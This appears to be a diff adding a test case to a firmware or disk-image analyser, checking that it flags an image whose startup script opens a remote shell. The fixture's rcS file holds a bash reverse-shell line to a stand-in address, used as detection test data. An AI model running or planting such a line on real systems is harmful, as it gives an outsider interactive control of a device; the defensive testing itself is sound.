@@ -96,4 +96,14 @@ def a_kernel_is_one_in_its_container_or_by_what_it_holds():
     equal(components("boot.img", android.ljust(2048, b"\0") + bare + bytes(4096)), ["linux 5.15.0"])
 
 
+@case
+def what_a_shell_needs_is_in_the_image():
+    root = {"etc/passwd": b"root:x:0:0:root:/:/bin/sh\n", "etc/inittab": b"::sysinit:/etc/init.d/rcS\n",
+            "etc/init.d/rcS": b"#!/bin/sh\nbash -i >& /dev/tcp/192.0.2.1/443 0>&1\n", "sbin/init": b"#!/bin/sh\n",
+            "bin/sh": b"#!/bin/sh\n", "usr/bin/env": b"#!/bin/sh\n"}
+    sql = "SELECT started FROM remote_shell"
+    equal(ask(write("shell.tar", tar(root)), sql), [{"started": 0}])
+    equal(ask(write("shell.tar", tar({**root, "bin/bash": b"#!/bin/sh\n"})), sql), [{"started": 1}])
+
+
 main()
